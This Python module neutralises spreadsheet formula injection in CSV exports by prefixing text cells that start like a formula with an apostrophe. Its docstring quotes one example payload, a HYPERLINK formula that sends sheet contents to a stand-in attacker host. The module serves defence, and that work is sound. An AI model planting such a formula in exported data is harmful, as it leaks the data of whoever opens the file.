"""CSV exports that a spreadsheet opens safely: a cell that begins like a formula is made text.

Excel, LibreOffice and Google Sheets run a cell beginning with `=`, `+`, `-` or `@` (and, in some
versions, after a leading tab or carriage return) as a formula: a participant named
`=HYPERLINK("https://evil.example/?"&A1, "click")` would otherwise become a link that leaks the
sheet. Every CSV export goes through `csv_writer`, which prefixes such text cells with `'` (OWASP's
advice); numbers, dates and decimals are written as they are (a negative amount stays a number).
"""

from __future__ import annotations

import csv
from decimal import Decimal
from typing import Any, Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`'=1+1` for `=1+1`; anything that is not text, or does not start like a formula, unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell(value: Any) -> Any:
    """What goes into the file: None as empty, a Decimal in plain notation (a number, never
    neutralised, even when negative), text neutralised."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return f"{value:f}"
    return neutralise(value)


class SafeWriter:
    """csv.writer (CRLF line ends) whose rows go through `cell`."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, lineterminator="\r\n", **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> SafeWriter:
    return SafeWriter(out, **kwargs)
